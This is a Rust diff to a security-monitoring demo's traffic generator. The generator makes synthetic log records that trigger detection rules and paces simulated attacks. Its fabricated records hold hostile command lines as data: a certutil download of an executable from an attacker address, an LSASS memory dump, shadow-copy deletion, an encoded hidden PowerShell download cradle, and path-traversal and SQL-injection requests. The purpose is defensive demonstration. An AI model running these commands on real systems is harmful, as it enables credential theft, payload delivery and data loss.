@@ -53,6 +53,13 @@ correlation:\n  type: event_count\n  rules: [ssh_failed_login]\n  group-by: [src
 
 /// Loads the province's rules once (they are kept if an administrator changes them).
 pub async fn load_rules(store: &Store, monitor: &Monitor) -> anyhow::Result<()> {
+    // The pipeline's worker writes the bundled rules into the store as it starts; adding ours
+    // at the same moment fails with "database is locked" on SQLite. Wait for its first
+    // compilation (a minute at most: if it failed, the reload below says why).
+    let started = std::time::Instant::now();
+    while monitor.rules_summary().compiled_at == 0 && started.elapsed() < Duration::from_secs(60) {
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
     let actor = Actor::system("demo");
     for (name, yaml) in PROVINCE_RULES {
         let metas = canhgac_ops::monitor::validate_custom_rule(
@@ -129,14 +136,10 @@ pub async fn hosts(store: &Store) -> anyhow::Result<Vec<DemoHost>> {
         .collect())
 }
 
-const ATTACKERS: &[&str] = &[
-    "45.155.205.233",
-    "185.220.101.47",
-    "91.240.118.172",
-    "103.151.125.9",
-    "194.26.29.113",
-    "222.186.42.7",
-];
+/// The attackers' addresses: those the seeded Botnet lists carry ([`crate::ATTACKERS`]).
+fn attacker(dice: &mut Dice) -> &'static str {
+    dice.pick(crate::ATTACKERS).0
+}
 const USERS: &[&str] = &[
     "admin",
     "nguyenvana",
@@ -177,11 +180,55 @@ fn utc(ms: i64) -> String {
         .unwrap_or_default()
 }
 
+/// How often the live generator sends a burst.
+pub const LIVE_EVERY_MS: i64 = 3_000;
+
+/// Mean time between two attacks. The generator once attacked in two bursts of three (about
+/// 1,100 new alerts and 1,500 detections an hour with the bundled SigmaHQ rules — no team could
+/// work through that); one attack every two and a half minutes keeps each pattern appearing
+/// a few times an hour and the alerts to a few dozen (see `tests/traffic.rs`).
+pub const ATTACK_EVERY_MS: i64 = 150_000;
+
+/// The attacks the generator makes, by name.
+pub const ATTACK_KINDS: &[&str] = &[
+    "ssh-bruteforce",
+    "ssh-root-password",
+    "certutil-download",
+    "shadow-copy-delete",
+    "lsass-dump",
+    "powershell-encoded",
+    "web-attack",
+];
+
+/// An attack the generator made: what, on which host, from which address (if any), when.
+#[derive(Debug, Clone)]
+pub struct Attack {
+    /// One of [`ATTACK_KINDS`].
+    pub kind: &'static str,
+    /// The host attacked.
+    pub host: String,
+    /// The attacker's address, when the records name one.
+    pub source: Option<&'static str>,
+    /// When (Unix ms).
+    pub at: i64,
+}
+
 /// One burst of traffic at `at`: a handful of records, now and then an attack.
 pub fn burst(dice: &mut Dice, hosts: &[DemoHost], at: i64) -> Vec<Raw> {
+    burst_at(dice, hosts, at, LIVE_EVERY_MS).0
+}
+
+/// One burst of traffic at `at` standing for `span_ms` of time: a handful of ordinary
+/// records, and an attack with a chance proportional to the span, and which attack it was.
+pub fn burst_at(
+    dice: &mut Dice,
+    hosts: &[DemoHost],
+    at: i64,
+    span_ms: i64,
+) -> (Vec<Raw>, Option<Attack>) {
     let mut out = Vec::new();
     if hosts.is_empty() {
-        return out;
+        return (out, None);
     }
     let linux: Vec<&DemoHost> = hosts.iter().filter(|h| !h.windows).collect();
     let windows: Vec<&DemoHost> = hosts.iter().filter(|h| h.windows).collect();
@@ -274,11 +321,20 @@ pub fn burst(dice: &mut Dice, hosts: &[DemoHost], at: i64) -> Vec<Raw> {
         }
     }
     // Now and then, an attack.
-    match dice.below(12) {
+    let attack = |kind: &'static str, host: &DemoHost, source: Option<&'static str>| {
+        Some(Attack {
+            kind,
+            host: host.name.clone(),
+            source,
+            at,
+        })
+    };
+    let attacking = (dice.below(ATTACK_EVERY_MS as usize) as i64) < span_ms;
+    let made = match if attacking { dice.below(8) } else { 8 } {
         0 | 1 if !linux.is_empty() => {
             // Password guessing from a listed address: the correlation rule fires at six.
             let h = *dice.pick(&linux);
-            let src = *dice.pick(ATTACKERS);
+            let src = attacker(dice);
             for _ in 0..(4 + dice.below(5)) {
                 let user = *dice.pick(USERS);
                 out.push(line(
@@ -291,24 +347,27 @@ pub fn burst(dice: &mut Dice, hosts: &[DemoHost], at: i64) -> Vec<Raw> {
                     ),
                 ));
             }
+            attack("ssh-bruteforce", h, Some(src))
         }
         2 if !linux.is_empty() => {
             let h = *dice.pick(&linux);
+            let src = attacker(dice);
             out.push(line(
                 h,
                 "sshd",
                 2222,
                 format!(
-                    "Accepted password for root from {} port {} ssh2",
-                    dice.pick(ATTACKERS),
+                    "Accepted password for root from {src} port {} ssh2",
                     30000 + dice.below(30000)
                 ),
             ));
+            attack("ssh-root-password", h, Some(src))
         }
         3 if !windows.is_empty() => {
             let h = *dice.pick(&windows);
-            let ip = dice.pick(ATTACKERS);
+            let ip = attacker(dice);
             out.push(sysmon(h, "C:\\Windows\\System32\\certutil.exe", &format!("certutil.exe -urlcache -split -f http://{ip}/update.exe C:\\Users\\Public\\update.exe"), "C:\\Windows\\System32\\cmd.exe", "CertUtil.exe"));
+            attack("certutil-download", h, Some(ip))
         }
         4 if !windows.is_empty() => {
             let h = *dice.pick(&windows);
@@ -319,34 +378,38 @@ pub fn burst(dice: &mut Dice, hosts: &[DemoHost], at: i64) -> Vec<Raw> {
                 "C:\\Windows\\System32\\cmd.exe",
                 "VSSADMIN.EXE",
             ));
+            attack("shadow-copy-delete", h, None)
         }
         5 if !windows.is_empty() => {
             let h = *dice.pick(&windows);
             out.push(sysmon(h, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "RUNDLL32.EXE"));
+            attack("lsass-dump", h, None)
         }
         6 if !windows.is_empty() => {
             let h = *dice.pick(&windows);
             out.push(sysmon(h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", "C:\\Windows\\System32\\cmd.exe", "PowerShell.EXE"));
+            attack("powershell-encoded", h, None)
         }
         7 if !web.is_empty() => {
             let h = *dice.pick(&web);
-            let attack = *dice.pick(&[
+            let attack_path = *dice.pick(&[
                 "/index.php?page=../../../../etc/passwd",
                 "/tin-tuc?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
                 "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
                 "/wp-login.php",
             ]);
+            let src = attacker(dice);
             let mut r = Raw::new("udp", h.ip.parse().ok(), Body::Line(format!(
-                "{} - - [{}] \"GET {attack} HTTP/1.1\" 404 153 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
-                dice.pick(ATTACKERS),
+                "{src} - - [{}] \"GET {attack_path} HTTP/1.1\" 404 153 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
                 access_time(at),
             )));
             r.received_at = at;
             out.push(r);
+            attack("web-attack", h, Some(src))
         }
-        _ => {}
-    }
-    out
+        _ => None,
+    };
+    (out, made)
 }
 
 /// A few hours of history at start-up, so the pages are not empty.
@@ -358,8 +421,10 @@ pub async fn backfill(store: &Store, monitor: &Monitor, hours: i64) -> anyhow::R
     let mut batch = Vec::new();
     let mut stored = 0;
     while at < now {
-        batch.extend(burst(&mut dice, &hs, at));
-        at += 40_000 + dice.below(80_000) as i64;
+        // Fewer bursts than live, each standing for its gap: the same attacks per hour.
+        let gap = 40_000 + dice.below(80_000) as i64;
+        batch.extend(burst_at(&mut dice, &hs, at, gap).0);
+        at += gap;
         if batch.len() >= 500 {
             stored += monitor
                 .ingest(std::mem::take(&mut batch))
@@ -384,7 +449,8 @@ pub async fn live(store: Store, monitor: Arc<Monitor>, every: Duration) {
     let Ok(hs) = hosts(&store).await else { return };
     loop {
         tokio::time::sleep(every).await;
-        let batch = burst(&mut dice, &hs, now_ms());
+        let span = i64::try_from(every.as_millis()).unwrap_or(LIVE_EVERY_MS);
+        let batch = burst_at(&mut dice, &hs, now_ms(), span).0;
         if !batch.is_empty() && !monitor.submit(batch).await {
             return;
         }
